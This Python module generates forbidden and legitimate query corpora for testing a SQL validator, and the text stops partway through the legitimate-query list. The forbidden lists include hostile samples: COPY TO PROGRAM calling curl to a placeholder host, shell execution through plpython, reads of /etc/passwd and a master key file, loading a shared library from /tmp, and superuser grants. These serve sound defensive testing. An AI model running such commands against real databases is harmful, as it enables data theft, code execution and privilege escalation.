"""Corpora for the SQL validator (sqlguard): forbidden and legitimate queries,
and token-aware obfuscation transforms (reference/security.md, 8.C C1-C3).

Everything is generated from lists; ``random.Random(seed)`` keeps it
reproducible.  The transforms use PostgreSQL's own lexer (pglast.scan), so
they change spelling, never meaning: a forbidden statement stays forbidden
and a legitimate one keeps its parse tree.
"""

from __future__ import annotations

import random

from pglast import parser as pgparser

# --- the schema the queries talk about --------------------------------------

TABLES = ["sales", "customers", "products", "stores", "employees", "returns",
          "public.sales", "shop.orders"]

# --- forbidden: statements ---------------------------------------------------


def _dml():
    out = []
    for t in TABLES:
        out += [
            f"INSERT INTO {t} VALUES (1, 'x')",
            f"INSERT INTO {t} (id) SELECT id FROM customers",
            f"INSERT INTO {t} (id) VALUES (1) ON CONFLICT DO NOTHING",
            f"INSERT INTO {t} (id) VALUES (2) ON CONFLICT (id) DO UPDATE SET id = excluded.id RETURNING *",
            f"INSERT INTO {t} DEFAULT VALUES",
            f"UPDATE {t} SET amount = 0",
            f"UPDATE {t} SET status = 'void' WHERE id IN (SELECT id FROM customers) RETURNING id",
            f"UPDATE {t} AS x SET amount = y.amount FROM sales y WHERE x.id = y.id",
            f"DELETE FROM {t}",
            f"DELETE FROM {t} WHERE id = 1 RETURNING *",
            f"DELETE FROM {t} USING customers c WHERE c.id = {t}.id",
            f"MERGE INTO {t} AS d USING customers AS s ON d.id = s.id WHEN MATCHED THEN DELETE",
            f"MERGE INTO {t} d USING (SELECT 1 AS id) s ON d.id = s.id "
            f"WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
            f"TRUNCATE {t}",
            f"TRUNCATE TABLE {t} RESTART IDENTITY CASCADE",
        ]
    return out


def _ddl():
    out = []
    for t in TABLES:
        out += [
            f"DROP TABLE {t}",
            f"DROP TABLE IF EXISTS {t} CASCADE",
            f"ALTER TABLE {t} ADD COLUMN pwned text",
            f"ALTER TABLE {t} OWNER TO mallory",
            f"ALTER TABLE {t} DISABLE ROW LEVEL SECURITY",
            f"CREATE TABLE {t}_copy AS SELECT * FROM {t}",
            f"CREATE INDEX ON {t} (id)",
            f"CREATE VIEW v_{t.replace('.', '_')} AS SELECT * FROM {t}",
            f"COMMENT ON TABLE {t} IS 'x'",
            f"CREATE TRIGGER trg BEFORE INSERT ON {t} FOR EACH ROW EXECUTE FUNCTION f()",
            f"CREATE POLICY p ON {t} USING (true)",
            f"CLUSTER {t}",
            f"REINDEX TABLE {t}",
            f"CREATE RULE r AS ON SELECT TO {t} DO INSTEAD SELECT 1",
            f"SECURITY LABEL ON TABLE {t} IS 'x'",
        ]
    out += [
        "CREATE TABLE t (id int)", "CREATE TEMP TABLE t AS SELECT 1",
        "CREATE UNLOGGED TABLE u (x text)", "CREATE SCHEMA evil",
        "CREATE EXTENSION dblink", "CREATE EXTENSION IF NOT EXISTS adminpack",
        "DROP EXTENSION dbms_cloud_ai CASCADE", "DROP SCHEMA dbms_cloud_ai CASCADE",
        "DROP SCHEMA public CASCADE", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS $$select 'x'$$",
        "CREATE FUNCTION p() RETURNS void LANGUAGE plpython3u AS $$import os$$",
        "CREATE PROCEDURE pr() LANGUAGE sql AS $$delete from sales$$",
        "DROP FUNCTION dbms_cloud_ai.generate", "ALTER FUNCTION dbms_cloud_ai.generate OWNER TO x",
        "CREATE SEQUENCE s", "ALTER SEQUENCE s RESTART", "DROP SEQUENCE s",
        "CREATE MATERIALIZED VIEW mv AS SELECT 1", "REFRESH MATERIALIZED VIEW mv",
        "CREATE TYPE mood AS ENUM ('a')", "DROP TYPE mood", "CREATE DOMAIN d AS int",
        "ALTER DATABASE postgres SET search_path = evil", "CREATE DATABASE d",
        "DROP DATABASE postgres", "ALTER SYSTEM SET log_statement = 'none'",
        "ALTER SYSTEM RESET ALL", "CREATE TABLESPACE ts LOCATION '/tmp'",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
        "CREATE FOREIGN TABLE ft (x int) SERVER s", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        "CREATE CAST (text AS int) WITH INOUT", "CREATE OPERATOR === (function = f, leftarg = int)",
        "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)", "CREATE LANGUAGE plperlu",
        "CREATE PUBLICATION pub FOR ALL TABLES", "CREATE SUBSCRIPTION s CONNECTION '' PUBLICATION p",
        "CREATE STATISTICS st ON id, amount FROM sales", "CREATE COLLATION c (locale = 'C')",
        "CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8",
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
        "ALTER EXTENSION dbms_cloud_ai UPDATE", "CREATE ACCESS METHOD am TYPE INDEX HANDLER h",
        "ALTER TABLE dbms_cloud_ai._profile DISABLE ROW LEVEL SECURITY",
        "CREATE TABLE pg_temp.x AS SELECT * FROM sales", "CREATE TABLE x (LIKE sales)",
        "ALTER VIEW v RENAME TO w", "ALTER SCHEMA public RENAME TO p",
    ]
    return out


def _dcl():
    out = []
    for t in TABLES[:5] + ["dbms_cloud_ai._profile", "dbms_cloud._credential"]:
        out += [
            f"GRANT SELECT ON {t} TO PUBLIC",
            f"GRANT ALL PRIVILEGES ON TABLE {t} TO mallory WITH GRANT OPTION",
            f"REVOKE SELECT ON {t} FROM alice",
        ]
    out += [
        "GRANT dbms_cloud_ai_admin TO mallory", "GRANT pg_read_server_files TO mallory",
        "GRANT pg_execute_server_program TO mallory", "REVOKE dbms_cloud_ai_user FROM alice",
        "ALTER ROLE mallory SUPERUSER", "ALTER USER mallory WITH PASSWORD 'x'",
        "CREATE ROLE mallory LOGIN SUPERUSER", "CREATE USER eve", "DROP ROLE alice",
        "ALTER ROLE alice SET search_path = evil", "REASSIGN OWNED BY alice TO mallory",
        "DROP OWNED BY alice", "GRANT USAGE ON SCHEMA dbms_cloud_ai TO PUBLIC",
        "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA dbms_cloud_ai TO PUBLIC",
        "GRANT CREATE ON SCHEMA public TO PUBLIC", "REVOKE ALL ON SCHEMA public FROM PUBLIC",
        "SET ROLE postgres", "SET SESSION AUTHORIZATION postgres", "RESET ROLE",
        "CREATE USER MAPPING FOR PUBLIC SERVER s", "ALTER GROUP analysts ADD USER mallory",
    ]
    return out


SELECTS = [
    "SELECT 1", "SELECT * FROM sales", "SELECT id FROM customers WHERE id = 1",
    "SELECT count(*) FROM sales", "WITH x AS (SELECT 1) SELECT * FROM x",
    "SELECT c.name, sum(s.amount) FROM sales s JOIN customers c ON c.id = s.customer_id GROUP BY 1",
    "VALUES (1), (2)", "SELECT 1 UNION SELECT 2", "TABLE sales",
]


def _multi():
    others = ["DROP TABLE sales", "DELETE FROM sales", "UPDATE customers SET name = 'x'",
              "INSERT INTO sales VALUES (1)", "SELECT pg_sleep(10)", "COPY sales TO STDOUT",
              "SET statement_timeout = 0", "GRANT ALL ON sales TO PUBLIC",
              "SELECT 2", "NOTIFY c", "COMMIT", "TRUNCATE sales",
              "SELECT set_config('transaction_read_only', 'off', false)",
              "DO $$ BEGIN PERFORM 1; END $$", "CALL dbms_cloud_ai.purge_expired_conversations()"]
    out = []
    for i, s in enumerate(SELECTS):
        for j, o in enumerate(others):
            if (i + j) % 2 == 0:
                out.append(f"{s}; {o}")
            else:
                out.append(f"{o}; {s}")
    out += ["SELECT 1; SELECT 2; SELECT 3", "SELECT 1;SELECT 2", "SELECT 1;\nSELECT 2;",
            "SELECT 'a;b'; DELETE FROM sales", "SELECT $$;$$; DROP TABLE sales"]
    return out


def _dml_cte():
    dml = ["DELETE FROM sales RETURNING *", "UPDATE sales SET amount = 0 RETURNING id",
           "INSERT INTO sales (id) VALUES (1) RETURNING id", "DELETE FROM customers WHERE true RETURNING 1",
           "INSERT INTO sales SELECT * FROM sales RETURNING *", "DELETE FROM sales",
           "MERGE INTO sales d USING customers s ON d.id = s.id WHEN MATCHED THEN DELETE RETURNING d.id",
           "UPDATE dbms_cloud_ai._profile SET owner = 'bob' RETURNING 1"]
    out = []
    for d in dml:
        out += [
            f"WITH d AS ({d}) SELECT * FROM d",
            f"WITH d AS ({d}) SELECT count(*) FROM sales",
            f"WITH a AS (SELECT 1), d AS ({d}) SELECT * FROM a",
            f"WITH RECURSIVE d AS ({d}) SELECT 1",
            f"SELECT * FROM (WITH d AS ({d}) SELECT * FROM d) q",
            f"SELECT (WITH d AS ({d}) SELECT count(*) FROM d)",
            f"WITH x AS (WITH d AS ({d}) SELECT * FROM d) SELECT * FROM x",
            f"WITH d AS MATERIALIZED ({d}) SELECT 1 UNION ALL SELECT 2",
        ]
    out += ["WITH d AS (DELETE FROM sales RETURNING *) DELETE FROM customers",
            "WITH d AS (SELECT 1) INSERT INTO sales SELECT * FROM d",
            "WITH d AS (SELECT 1) UPDATE sales SET amount = 1"]
    return out


def _select_into():
    return [
        "SELECT * INTO newtab FROM sales", "SELECT id INTO TEMP t FROM sales",
        "SELECT * INTO TEMPORARY TABLE t FROM customers", "SELECT 1 INTO UNLOGGED u",
        "SELECT * INTO pg_temp.x FROM sales", "SELECT region, count(*) INTO stats FROM customers GROUP BY 1",
        "WITH x AS (SELECT 1) SELECT * INTO y FROM x", "SELECT * INTO TABLE public.copy FROM sales",
        "SELECT 1 AS a INTO t UNION SELECT 2", "SELECT DISTINCT id INTO t2 FROM sales ORDER BY id",
        "SELECT * INTO dbms_cloud_ai.x FROM sales", "SELECT 1 INTO t LIMIT 1",
        "SELECT * INTO t FROM sales FOR UPDATE", "SELECT now() INTO t", "SELECT * INTO t FROM sales WHERE false",
    ]


def _locking():
    out = []
    for mode in ("FOR UPDATE", "FOR NO KEY UPDATE", "FOR SHARE", "FOR KEY SHARE"):
        for tail in ("", " NOWAIT", " SKIP LOCKED", " OF s"):
            out.append(f"SELECT * FROM sales s {mode}{tail}")
        out += [f"SELECT * FROM (SELECT * FROM sales {mode}) q",
                f"WITH x AS (SELECT * FROM sales {mode}) SELECT * FROM x",
                f"SELECT * FROM customers WHERE id IN (SELECT customer_id FROM sales {mode})",
                f"SELECT * FROM sales s JOIN customers c ON c.id = s.customer_id {mode} OF c"]
    out += ["SELECT * FROM sales FOR UPDATE FOR SHARE", "TABLE sales FOR UPDATE",
            "SELECT * FROM sales LIMIT 1 FOR UPDATE"]
    return out


def _copy():
    return [
        "COPY sales TO STDOUT", "COPY sales FROM STDIN", "COPY sales TO '/tmp/x'",
        "COPY sales FROM '/etc/passwd'", "COPY sales TO PROGRAM 'curl http://x'",
        "COPY sales FROM PROGRAM 'id'", "COPY (SELECT * FROM customers) TO STDOUT",
        "COPY (SELECT * FROM dbms_cloud._credential) TO '/tmp/k'",
        "COPY sales (id, amount) TO STDOUT WITH (FORMAT csv)", "COPY customers FROM STDIN WITH CSV HEADER",
        "COPY (DELETE FROM sales RETURNING *) TO STDOUT", "COPY sales TO STDOUT (FORMAT binary)",
        "COPY dbms_cloud_ai._profile TO STDOUT", "COPY pg_authid TO STDOUT", "COPY t FROM STDIN WHERE id > 1",
    ]


def _do_call():
    return [
        "DO $$ BEGIN DELETE FROM sales; END $$",
        "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
        "DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'drop table sales'; END $$",
        "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
        "DO 'BEGIN NULL; END'", "DO $x$ DECLARE r record; BEGIN NULL; END $x$",
        "DO E'BEGIN\\nNULL;\\nEND'", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$",
        "CALL dbms_cloud_ai.purge_expired_conversations()", "CALL dbms_cloud_ai.create_conversation(NULL)",
        "CALL p()", "CALL public.p(1, 2)", "CALL pg_catalog.p()", "CALL x.y.z()",
    ]


def _explain():
    out = []
    for inner in ("DELETE FROM sales", "SELECT * FROM sales", "UPDATE sales SET amount = 0",
                  "INSERT INTO sales VALUES (1)", "SELECT pg_sleep(1)"):
        out += [f"EXPLAIN ANALYZE {inner}", f"EXPLAIN (ANALYZE, BUFFERS) {inner}",
                f"EXPLAIN (ANALYZE true, FORMAT json) {inner}", f"EXPLAIN {inner}"]
    out += ["EXPLAIN VERBOSE SELECT 1", "EXPLAIN ANALYSE SELECT 1",
            "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1", "EXPLAIN ANALYZE EXECUTE s"]
    return out


def _set_show():
    return [
        "SET statement_timeout = 0", "SET statement_timeout TO 0", "SET LOCAL statement_timeout = 0",
        "SET SESSION statement_timeout = '0'", "SET search_path = evil, public",
        "SET search_path TO DEFAULT", "SET transaction_read_only = off",
        "SET TRANSACTION READ WRITE", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET default_transaction_read_only = off", "SET app.user_id = 'bob'",
        "SET dbms_cloud_ai.key_file = '/tmp/x'", "SET TIME ZONE 'UTC'", "SET NAMES 'utf8'",
        "SET CONSTRAINTS ALL DEFERRED", "SET row_security = off", "SET log_statement = 'none'",
        "RESET ALL", "RESET statement_timeout", "RESET search_path", "RESET SESSION AUTHORIZATION",
        "SHOW ALL", "SHOW statement_timeout", "SHOW search_path", "SHOW dbms_cloud_ai.key_file",
        "SHOW server_version", "SHOW TRANSACTION ISOLATION LEVEL", "DISCARD ALL", "DISCARD PLANS",
        "SET standard_conforming_strings = off",
    ]


def _listen_notify_lock_vacuum_prepare():
    out = ["LISTEN c", "LISTEN \"chan\"", "UNLISTEN *", "UNLISTEN c", "NOTIFY c",
           "NOTIFY c, 'payload'", "NOTIFY dbms_cloud_ai, 'x'", "LISTEN dbms_cloud_ai"]
    for t in TABLES:
        out += [f"LOCK {t}", f"LOCK TABLE {t} IN ACCESS EXCLUSIVE MODE",
                f"LOCK TABLE {t} IN SHARE MODE NOWAIT", f"VACUUM {t}", f"VACUUM FULL {t}",
                f"VACUUM (VERBOSE, ANALYZE) {t}", f"ANALYZE {t}"]
    out += ["LOCK TABLE dbms_cloud_ai._profile", "VACUUM", "ANALYZE", "VACUUM FREEZE",
            "PREPARE s AS SELECT 1", "PREPARE d (int) AS DELETE FROM sales WHERE id = $1",
            "EXECUTE s", "EXECUTE d (1)", "DEALLOCATE s", "DEALLOCATE ALL",
            "PREPARE p AS SELECT pg_sleep(1)", "EXECUTE p",
            "BEGIN", "COMMIT", "ROLLBACK", "START TRANSACTION READ WRITE", "SAVEPOINT a",
            "RELEASE SAVEPOINT a", "ROLLBACK TO SAVEPOINT a", "END", "ABORT",
            "PREPARE TRANSACTION 'x'", "COMMIT PREPARED 'x'", "CHECKPOINT",
            "LOAD 'plpython3'", "LOAD '/tmp/evil.so'", "DECLARE c CURSOR FOR SELECT 1",
            "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM sales", "FETCH ALL FROM c", "CLOSE c",
            "MOVE NEXT IN c"]
    return out


# --- forbidden: functions -----------------------------------------------------

FORBIDDEN_CALLS = [
    "pg_sleep(1)", "pg_sleep_for('5 minutes')", "pg_sleep_until(now() + interval '1 hour')",
    "set_config('statement_timeout', '0', false)", "set_config('app.user_id', 'bob', false)",
    "set_config('transaction_read_only', 'off', true)", "current_setting('dbms_cloud_ai.key_file')",
    "pg_advisory_lock(1)", "pg_advisory_lock_shared(1)", "pg_try_advisory_lock(42)",
    "pg_advisory_xact_lock(1)", "pg_try_advisory_xact_lock_shared(1, 2)", "pg_advisory_unlock_all()",
    "pg_notify('c', 'x')", "dblink('host=127.0.0.1', 'select 1')",
    "dblink_exec('host=127.0.0.1', 'delete from sales')", "dblink_connect('c', 'dbname=postgres')",
    "lo_import('/etc/passwd')", "lo_export(16400, '/tmp/x')", "lo_create(0)", "lo_unlink(16400)",
    "lo_from_bytea(0, 'x')", "lo_get(16400)", "lo_put(16400, 0, 'x')", "lo_open(16400, 131072)",
    "loread(0, 100)", "lowrite(0, 'x')", "lo_truncate(0, 0)",
    "pg_read_file('/etc/passwd')", "pg_read_file('postgresql.conf', 0, 100)",
    "pg_read_binary_file('/etc/dbms_cloud_ai/master.key')", "pg_ls_dir('.')", "pg_ls_logdir()",
    "pg_ls_waldir()", "pg_ls_tmpdir()", "pg_ls_archive_statusdir()", "pg_stat_file('PG_VERSION')",
    "pg_current_logfile()", "pg_terminate_backend(1)", "pg_cancel_backend(1)",
    "pg_reload_conf()", "pg_rotate_logfile()", "pg_switch_wal()", "pg_create_restore_point('x')",
    "nextval('s')", "setval('s', 1)", "currval('s')", "lastval()", "txid_current()",
    "pg_current_xact_id()", "setseed(0.5)",
    "query_to_xml('select * from sales', true, false, '')",
    "query_to_xml_and_xmlschema('delete from sales', true, false, '')",
    "query_to_xmlschema('select 1', true, false, '')",
    "cursor_to_xml('c', 1, true, false, '')", "table_to_xml('sales', true, false, '')",
    "table_to_xmlschema('sales', true, false, '')", "schema_to_xml('public', true, false, '')",
    "database_to_xml(true, false, '')", "ts_stat('select body from docs')",
    "ts_rewrite('a'::tsquery, 'select t, s from aliases')", "pg_stat_reset()",
    "pg_stat_statements_reset()", "pg_stat_reset_shared('bgwriter')",
    "pg_logical_emit_message(true, 'p', 'x')", "pg_create_logical_replication_slot('s', 'pgoutput')",
    "pg_drop_replication_slot('s')", "pg_log_backend_memory_contexts(1)",
    "brin_summarize_new_values('i')", "gin_clean_pending_list('i')",
    "pg_import_system_collations('pg_catalog')", "pg_file_write('x', 'y', false)",
    "pg_promote()", "pg_backup_start('x')", "pg_export_snapshot()",
    "version()", "pg_get_functiondef(1)", "pg_get_viewdef('v')", "pg_relation_size('sales')",
    "has_table_privilege('sales', 'select')", "inet_client_addr()", "pg_backend_pid()",
    "myfunc(1)", "public.myfunc(1)", "shop.cleanup()", "evil.pg_sleep(1)",
    "public.lower('x')", "pg_temp.f()",
]

EXTENSION_CALLS = [
    "dbms_cloud_ai.generate('drop all tables', 'P', 'runsql')",
    "dbms_cloud_ai.generate(prompt => 'x', action => 'chat')",
    "dbms_cloud_ai.create_profile('P', '{\"provider\": \"openai\"}')",
    "dbms_cloud_ai.drop_profile('P')", "dbms_cloud_ai.set_profile('P')",
    "dbms_cloud_ai.get_profile()", "dbms_cloud_ai.clear_profile()",
    "dbms_cloud_ai.enable_profile('P')", "dbms_cloud_ai.disable_profile('P')",
    "dbms_cloud_ai.set_attribute('P', 'model', 'x')", "dbms_cloud_ai.set_attributes('P', '{}')",
    "dbms_cloud_ai.create_conversation()", "dbms_cloud_ai.drop_conversation('x')",
    "dbms_cloud_ai.update_conversation('x', '{}')", "dbms_cloud_ai.set_conversation_id('x')",
    "dbms_cloud_ai.get_conversation_id()", "dbms_cloud_ai.clear_conversation_id()",
    "dbms_cloud_ai.delete_conversation_prompt('x')", "dbms_cloud_ai.add_conversation_tag('x', 't')",
    "dbms_cloud_ai.remove_conversation_tag('x', 't')", "dbms_cloud_ai.append_host_ace('h', 'u')",
    "dbms_cloud_ai.remove_host_ace('h', 'u')", "dbms_cloud_ai.schedule_conversation_purge()",
    "dbms_cloud_ai.unschedule_conversation_purge()", "dbms_cloud_ai._purge_conversations_batch(100)",
    "dbms_cloud_ai._profile_attribute_names()", "dbms_cloud_ai._session_conversation_prompts()",
    "dbms_cloud_ai.select_ai('runsql how many')",
    "dbms_cloud.create_credential('C', 'u', 'sk-x')", "dbms_cloud.drop_credential('C')",
    "dbms_cloud.update_credential('C', 'password', 'x')", "dbms_cloud.enable_credential('C')",
    "dbms_cloud.disable_credential('C')",
    # unqualified: resolved through a search_path that might contain the schema
    "generate('x')", "get_profile()", "set_profile('P')", "create_credential('C', 'u', 'k')",
]

PLACEMENTS = [
    "SELECT {f}",
    "SELECT id, {f} AS v FROM sales",
    "SELECT * FROM sales WHERE {f} IS NOT NULL",
    "SELECT (SELECT {f}) AS x FROM customers",
    "WITH w AS (SELECT {f} AS v) SELECT * FROM w",
    "SELECT c.id, l.v FROM customers c CROSS JOIN LATERAL (SELECT {f} AS v) l",
    "SELECT * FROM {f} AS f",
    "SELECT region FROM customers GROUP BY region HAVING count(*) > 0 AND {f} IS NULL",
    "SELECT * FROM sales s WHERE EXISTS (SELECT 1 WHERE {f} IS NOT NULL)",
    "SELECT CASE WHEN amount > 0 THEN {f} END FROM sales",
    "VALUES ({f})",
    "SELECT sum(amount) OVER (ORDER BY {f}) FROM sales",
    "SELECT 1 UNION ALL SELECT {f}",
    "SELECT * FROM sales s JOIN customers c ON c.id = s.customer_id AND {f} IS NOT NULL",
    "SELECT * FROM sales ORDER BY {f}",
    "SELECT coalesce({f}, 0) FROM sales",
    "SELECT * FROM customers WHERE id IN (SELECT id FROM sales WHERE {f} IS NULL)",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE {f} IS NULL) SELECT * FROM r",
    "SELECT ARRAY(SELECT {f})",
    "SELECT * FROM ROWS FROM ({f}) AS r",
]


def _function_calls():
    out = []
    calls = FORBIDDEN_CALLS + EXTENSION_CALLS
    per_call = 6
    for i, f in enumerate(calls):
        for k in range(per_call):
            out.append(PLACEMENTS[(i * per_call + k) % len(PLACEMENTS)].format(f=f))
    return out


def _relations():
    rels = ["dbms_cloud_ai._profile", "dbms_cloud_ai._conversation", "dbms_cloud_ai._host_ace",
            "dbms_cloud_ai._conversation_prompt", "dbms_cloud._credential",
            "dbms_cloud.user_credentials", "dbms_cloud_ai.user_cloud_ai_profiles",
            "dbms_cloud_ai.dba_cloud_ai_profiles", "\"dbms_cloud_ai\".\"_profile\"",
            "pg_authid", "pg_shadow", "pg_catalog.pg_authid", "pg_roles", "pg_settings",
            "pg_stat_activity", "pg_catalog.pg_class", "pg_user_mappings", "pg_db_role_setting",
            "information_schema.tables", "information_schema.columns", "pg_toast.pg_toast_1",
            "pg_catalog.pg_proc", "pg_stat_statements", "pg_largeobject", "pg_file_settings",
            "pg_hba_file_rules", "mydb.public.sales"]
    out = []
    for r in rels:
        out += [f"SELECT * FROM {r}", f"SELECT count(*) FROM sales s JOIN {r} x ON true",
                f"SELECT * FROM sales WHERE EXISTS (SELECT 1 FROM {r})",
                f"WITH x AS (SELECT * FROM {r}) SELECT * FROM x"]
    return out


def forbidden_base() -> dict[str, list[str]]:
    """Category -> forbidden statements (every one must be refused)."""
    return {
        "dml": _dml(), "ddl": _ddl(), "dcl": _dcl(), "multi": _multi(),
        "dml_cte": _dml_cte(), "select_into": _select_into(), "locking": _locking(),
        "copy": _copy(), "do_call": _do_call(), "explain": _explain(), "set_show": _set_show(),
        "listen_lock_vacuum_prepare": _listen_notify_lock_vacuum_prepare(),
        "functions": _function_calls(), "relations": _relations(),
    }


# --- legitimate analytic queries ---------------------------------------------

LEGIT_HANDWRITTEN = [
    "SELECT count(*) FROM sales",
    "SELECT * FROM customers ORDER BY created_at DESC LIMIT 10",
    "SELECT region, count(*) AS n FROM customers GROUP BY region ORDER BY n DESC",
    "SELECT c.name, sum(s.amount) AS total FROM sales s JOIN customers c ON c.id = s.customer_id "
    "GROUP BY c.name ORDER BY total DESC LIMIT 5",
    "SELECT p.category, avg(s.amount) FROM sales s JOIN products p ON p.id = s.product_id GROUP BY 1",
    "SELECT date_trunc('month', sold_at) AS month, sum(amount) FROM sales GROUP BY 1 ORDER BY 1",
    "SELECT extract(year FROM sold_at) AS y, extract(quarter FROM sold_at) AS q, sum(amount) "
    "FROM sales GROUP BY 1, 2 ORDER BY 1, 2",
    "SELECT id, amount, rank() OVER (ORDER BY amount DESC) FROM sales",
    "SELECT id, amount, row_number() OVER (PARTITION BY customer_id ORDER BY sold_at) AS rn FROM sales",
    "SELECT customer_id, sold_at, amount, sum(amount) OVER (PARTITION BY customer_id ORDER BY sold_at "
    "ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM sales",
    "SELECT customer_id, amount, lag(amount) OVER w, lead(amount, 2, 0) OVER w FROM sales "
    "WINDOW w AS (PARTITION BY customer_id ORDER BY sold_at)",
    "SELECT store_id, avg(amount) OVER (PARTITION BY store_id ORDER BY sold_at RANGE BETWEEN "
    "INTERVAL '7 days' PRECEDING AND CURRENT ROW) FROM sales",
    "WITH monthly AS (SELECT date_trunc('month', sold_at) m, sum(amount) t FROM sales GROUP BY 1) "
    "SELECT m, t, t - lag(t) OVER (ORDER BY m) AS delta FROM monthly",
    "WITH top AS (SELECT customer_id, sum(amount) t FROM sales GROUP BY 1 ORDER BY 2 DESC LIMIT 10) "
    "SELECT c.name, top.t FROM top JOIN customers c ON c.id = top.customer_id",
    "WITH RECURSIVE chain(id, manager_id, depth) AS (SELECT id, manager_id, 0 FROM employees "
    "WHERE manager_id IS NULL UNION ALL SELECT e.id, e.manager_id, c.depth + 1 FROM employees e "
    "JOIN chain c ON e.manager_id = c.id) SELECT * FROM chain",
    "WITH RECURSIVE nums(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM nums WHERE n < 100) "
    "SELECT sum(n) FROM nums",
    "SELECT c.id, l.amount FROM customers c CROSS JOIN LATERAL (SELECT amount FROM sales s "
    "WHERE s.customer_id = c.id ORDER BY sold_at DESC LIMIT 3) l",
    "SELECT c.name, l.last_sale FROM customers c LEFT JOIN LATERAL (SELECT max(sold_at) AS last_sale "
    "FROM sales WHERE customer_id = c.id) l ON true",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(id, label)",
    "VALUES (1, 'one'), (2, 'two') ORDER BY 1",
    "SELECT region, category, sum(amount) FROM sales s JOIN customers c ON c.id = s.customer_id "
    "JOIN products p ON p.id = s.product_id GROUP BY GROUPING SETS ((region), (category), ())",
    "SELECT region, country, sum(amount) FROM sales s JOIN customers c ON c.id = s.customer_id "
    "GROUP BY ROLLUP (region, country)",
    "SELECT region, channel, count(*) FROM sales s JOIN customers c ON c.id = s.customer_id "
    "GROUP BY CUBE (region, channel)",
    "SELECT region, grouping(region) AS g, sum(amount) FROM sales s JOIN customers c "
    "ON c.id = s.customer_id GROUP BY ROLLUP (region)",
    "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) FILTER (WHERE status = "
    "'refunded') AS refunded FROM sales",
    "SELECT sum(amount) FILTER (WHERE channel = 'web') / nullif(sum(amount), 0) AS web_share FROM sales",
    "SELECT DISTINCT ON (customer_id) customer_id, sold_at, amount FROM sales ORDER BY customer_id, sold_at DESC",
    "SELECT DISTINCT region FROM customers",
    "SELECT id FROM customers UNION SELECT customer_id FROM sales",
    "SELECT id FROM customers EXCEPT SELECT customer_id FROM sales",
    "SELECT customer_id FROM sales INTERSECT SELECT customer_id FROM returns r JOIN sales s ON s.id = r.sale_id",
    "(SELECT id FROM customers ORDER BY id LIMIT 5) UNION ALL (SELECT id FROM products ORDER BY id LIMIT 5)",
    "SELECT amount::int, amount::numeric(10, 2), CAST(sold_at AS date), sold_at::date FROM sales",
    "SELECT id, price::text || ' EUR' AS label FROM products",
    "SELECT meta->>'campaign' AS campaign, count(*) FROM sales GROUP BY 1",
    "SELECT meta->'utm'->>'source', meta #>> '{utm,medium}' FROM sales WHERE meta ? 'utm'",
    "SELECT * FROM products WHERE attrs @> '{\"color\": \"red\"}'",
    "SELECT id, jsonb_array_length(attrs->'sizes') FROM products WHERE jsonb_typeof(attrs->'sizes') = 'array'",
    "SELECT p.id, kv.key, kv.value FROM products p, jsonb_each_text(p.attrs) AS kv",
    "SELECT jsonb_build_object('id', id, 'name', name) FROM customers",
    "SELECT json_agg(c ORDER BY c.id) FROM customers c",
    "SELECT jsonb_object_agg(region, n) FROM (SELECT region, count(*) n FROM customers GROUP BY 1) t",
    "SELECT jsonb_path_query_array(attrs, '$.sizes[*] ? (@ > 40)') FROM products",
    "SELECT to_char(sold_at, 'YYYY-MM-DD') AS day, sum(amount) FROM sales GROUP BY 1",
    "SELECT age(now(), created_at) FROM customers",
    "SELECT * FROM sales WHERE sold_at >= now() - interval '30 days'",
    "SELECT * FROM sales WHERE sold_at BETWEEN '2024-01-01' AND '2024-12-31'",
    "SELECT * FROM sales WHERE sold_at >= date '2024-01-01' AND sold_at < date '2025-01-01'",
    "SELECT date_bin('15 minutes', sold_at, timestamptz '2024-01-01') AS slot, count(*) FROM sales GROUP BY 1",
    "SELECT d::date, coalesce(sum(s.amount), 0) FROM generate_series(date '2024-01-01', date '2024-01-31', "
    "interval '1 day') d LEFT JOIN sales s ON s.sold_at::date = d::date GROUP BY 1 ORDER BY 1",
    "SELECT g, width_bucket(g, 0, 100, 10) FROM generate_series(0, 100, 5) g",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) AS median FROM sales",
    "SELECT percentile_disc(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY amount) FROM sales",
    "SELECT mode() WITHIN GROUP (ORDER BY channel) FROM sales",
    "SELECT corr(price, cost), regr_slope(price, cost) FROM products",
    "SELECT stddev_samp(amount), variance(amount) FROM sales",
    "SELECT ntile(4) OVER (ORDER BY amount) AS quartile, amount FROM sales",
    "SELECT amount, percent_rank() OVER (ORDER BY amount), cume_dist() OVER (ORDER BY amount) FROM sales",
    "SELECT first_value(amount) OVER w, last_value(amount) OVER w, nth_value(amount, 2) OVER w FROM sales "
    "WINDOW w AS (ORDER BY sold_at ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)",
    "SELECT name FROM customers WHERE name ILIKE '%smith%'",
    "SELECT name FROM customers WHERE name ~* '^a.*z$'",
    "SELECT name FROM customers WHERE email LIKE '%@example.com'",
    "SELECT name FROM customers WHERE name SIMILAR TO '(A|B)%'",
    "SELECT upper(name), lower(email), initcap(city), length(name) FROM customers c JOIN stores s ON s.region = c.region",
